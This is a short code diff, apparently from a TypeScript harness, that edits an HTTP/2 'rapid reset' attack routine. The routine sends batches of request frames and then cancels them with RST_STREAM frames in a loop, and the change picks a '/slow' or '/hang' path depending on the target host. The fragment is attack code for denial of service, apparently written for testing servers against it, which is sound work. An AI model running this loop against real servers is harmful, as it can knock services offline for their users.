@@ -21,7 +21,9 @@ export const rapidResets: Attack = {
       const connection = await attackConnection(target, host);
       for (let i = 0; i < RESETS && !stopped.aborted; i += AT_ONCE) {
         const ids = Array.from({ length: AT_ONCE }, (_, k) => 2 * (i + k) + 1);
-        await connection.send(...ids.map((id) => requestFrame(id, host, '/slow')));
+        await connection.send(
+          ...ids.map((id) => requestFrame(id, host, host === target.hosts.nginx ? '/slow' : '/hang')),
+        );
         await pause(5, stopped);
         await connection.send(...ids.map((id) => rstStreamFrame(id, CANCEL)));
       }
